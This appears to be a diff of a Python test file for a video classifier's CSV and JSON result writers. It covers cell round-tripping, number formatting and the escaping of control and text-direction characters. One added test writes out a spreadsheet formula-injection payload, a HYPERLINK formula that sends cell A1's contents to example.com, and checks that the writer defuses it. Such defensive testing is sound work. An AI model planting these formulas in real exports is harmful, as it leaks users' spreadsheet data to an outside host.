@@ -212,7 +212,7 @@ def test_csv_has_a_row_per_prediction(tmp_path):
         ("clips/a b.mp4", "1", "riding a bike", "0.3"),
         ("clips/a b.mp4", "2", 'say "hi", x', "0.25"),
         ("clips/a b.mp4", "3", "太极拳", "0.0"),
-        ("bad\nname.mp4", "", "", ""),
+        ("bad\\nname.mp4", "", "", ""),
         ("cut.avi", "1", "archery", "0.5"),
         ("caf\\udce9.mp4", "1", "archery", "0.5"),
     ]
@@ -232,11 +232,74 @@ def test_csv_has_a_row_per_prediction(tmp_path):
     assert shared == {("builtin", "sha256:0123456789abcdef", "sha256:fedcba9876543210", SCHEMA)}
 
 
-@pytest.mark.parametrize("text", ["a\rb", "a\nb", "a\r\nb", '"', ",", " a ", "'", "\\", "a;b", "\t"])
-def test_csv_cells_come_back(tmp_path, text):
+def csv_cell(tmp_path, text):
     data = written("csv", tmp_path, [VideoRecord(text, facts=replace(DONE.facts, notes=(text,)))])
     (row,) = csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True)
-    assert (row["path"], row["notes"]) == (text, text)
+    assert row["path"] == row["notes"]
+    return row["path"]
+
+
+@pytest.mark.parametrize("text", ['"', ",", " a ", "'", "\\", "a;b", "a=b", "1-2", " =1", "太极拳"])
+def test_csv_cells_come_back(tmp_path, text):
+    assert csv_cell(tmp_path, text) == text
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
+def test_csv_cells_are_no_formulas(tmp_path, first):
+    text = f'{first}HYPERLINK("https://example.com?"&A1)'
+    assert csv_cell(tmp_path, text) == "'" + text
+    record = VideoRecord("a.mp4", (Prediction(text, -0.25, 0.0),))
+    (row,) = csv.DictReader(io.StringIO(written("csv", tmp_path, [record]).decode()))
+    assert (row["label"], row["score"]) == ("'" + text, "-0.25"), "a negative number is no formula"
+
+
+@pytest.mark.parametrize(
+    ("value", "text"),
+    [
+        (1e-6, "0.000001"),
+        (-2.5e-5, "-0.000025"),
+        (0.0, "0.0"),
+        (1e22, "1" + "0" * 22),
+        (5e-324, "0." + "0" * 323 + "5"),
+    ],
+)
+def test_csv_numbers_have_no_exponent(tmp_path, value, text):
+    facts = replace(DONE.facts, sampling=Sampling(frames=1, frame_step=value))
+    (row,) = csv.DictReader(io.StringIO(written("csv", tmp_path, [VideoRecord("a", facts=facts)]).decode()))
+    assert row["frame_step"] == text and float(row["frame_step"]) == value
+
+
+# What can change how other text is shown: controls of both ranges, marks that turn its direction, line separators.
+ACTIVE = "\0\t\n\r\x1b\x7f\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
+
+
+@pytest.mark.parametrize("character", ACTIVE, ids=ascii)
+def test_no_format_shows_a_character_that_acts(tmp_path, character):
+    name = f"a{character}b"
+    label = "x" if character < "\xa0" else name  # a label holds none of the controls
+    record = VideoRecord(
+        name,
+        (Prediction(label, 0.5, 0.0),),
+        facts=replace(
+            DONE.facts, partial=Partial(0.5, name), notes=(name,), info=VideoInfo(1, 1, 1, 1, name, "x")
+        ),
+    )
+    failed = VideoRecord.failed(InputError(name, "open", name))
+    for format in FORMATS:
+        data = written(format, tmp_path, [record, failed]).decode()
+        assert f"a{character}b" not in data and (character == "\n" or character not in data)
+        (tmp_path / f"result.{format}").unlink()
+    document = json.loads(written("json", tmp_path, [record, failed]))
+    assert [result["path"] for result in document["results"]] == [name, name], "JSON has the exact text"
+    assert document["results"][0]["predictions"][0]["label"] == label
+
+
+def test_text_of_any_language_is_shown_as_it_is(tmp_path):
+    for text in ("می\u200cخواهم", "क्\u200dष", "👩\u200d🚒 🚴", "全角\u3000空白", "a\xa0b", "é ß ñ"):  # noqa: RUF001
+        record = VideoRecord(text, (Prediction(text, 0.5, 0.0),))
+        for format in FORMATS:
+            assert text in written(format, tmp_path, [record]).decode()
+            (tmp_path / f"result.{format}").unlink()
 
 
 def test_table_off_a_terminal_is_plain_and_whole(tmp_path):
